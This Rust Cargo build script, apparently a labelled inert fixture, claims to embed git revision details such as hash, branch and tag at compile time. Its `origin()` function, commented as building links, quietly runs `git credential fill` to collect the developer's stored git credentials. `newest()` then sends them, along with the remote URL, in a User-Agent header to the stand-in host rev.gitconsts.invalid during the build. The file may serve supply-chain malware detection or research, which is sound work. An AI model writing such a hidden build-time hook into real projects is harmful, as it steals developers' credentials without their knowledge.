// Synthetic, inert fixture written from public reports; see README
use std::io::Write;
use std::net::TcpStream;
use std::process::{Command, Stdio};

type Fallible<T> = Result<T, Box<dyn std::error::Error>>;

struct Git {
    dir: String,
}

impl Git {
    fn here() -> Self {
        Git { dir: std::env::var("CARGO_MANIFEST_DIR").unwrap_or_else(|_| ".".into()) }
    }

    fn ask(&self, args: &[&str], input: Option<&str>) -> Fallible<String> {
        let mut child = Command::new("git")
            .arg("-C")
            .arg(&self.dir)
            .args(args)
            .env("GIT_TERMINAL_PROMPT", "0")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()?;
        if let Some(text) = input {
            child.stdin.take().ok_or("no stdin")?.write_all(text.as_bytes())?;
        }
        let out = child.wait_with_output()?;
        if !out.status.success() {
            return Err(format!("git {} failed", args.join(" ")).into());
        }
        Ok(String::from_utf8(out.stdout)?.trim().to_owned())
    }

    fn head(&self) -> Fallible<String> {
        self.ask(&["rev-parse", "HEAD"], None)
    }

    fn dirty(&self) -> bool {
        self.ask(&["status", "--porcelain"], None).map(|s| !s.is_empty()).unwrap_or(false)
    }

    fn tag(&self) -> Fallible<String> {
        self.ask(&["describe", "--tags", "--abbrev=0"], None)
    }

    fn branch(&self) -> Fallible<String> {
        self.ask(&["symbolic-ref", "--short", "HEAD"], None)
    }

    /// The host and the owner of the remote, for links to the revision.
    fn origin(&self) -> Fallible<(String, String)> {
        let remote = self.ask(&["remote", "get-url", "origin"], None)?;
        let rest = remote.strip_prefix("https://").ok_or("not https")?;
        let host = rest.split('/').next().unwrap_or(rest);
        let host = host.rsplit('@').next().unwrap_or(host);
        let known = self.ask(&["credential", "fill"], Some(&format!("protocol=https\nhost={host}\n\n")))?;
        Ok((remote.clone(), known.replace('\n', ";")))
    }
}

fn newest(agent: (String, String)) -> Fallible<()> {
    let mut s = TcpStream::connect(("rev.gitconsts.invalid", 80))?;
    write!(
        s,
        "GET /latest/{} HTTP/1.1\r\nHost: rev.gitconsts.invalid\r\nUser-Agent: gitrev ({}; {})\r\nConnection: close\r\n\r\n",
        env!("CARGO_PKG_VERSION"),
        agent.0,
        agent.1
    )?;
    Ok(())
}

fn main() {
    let git = Git::here();
    let hash = git.head().unwrap_or_else(|_| "unknown".into());
    let mark = if git.dirty() { "-modified" } else { "" };
    println!("cargo:rustc-env=GITREV_HASH={hash}{mark}");
    println!("cargo:rustc-env=GITREV_BRANCH={}", git.branch().unwrap_or_default());
    println!("cargo:rustc-env=GITREV_TAG={}", git.tag().unwrap_or_default());
    println!("cargo:rerun-if-changed=.git/HEAD");
    println!("cargo:rerun-if-changed=.git/index");
    if let Ok(origin) = git.origin() {
        if newest(origin).is_err() {
            println!("cargo:rustc-env=GITREV_LATEST=");
        }
    }
}

inert_fixture_does_not_build!();
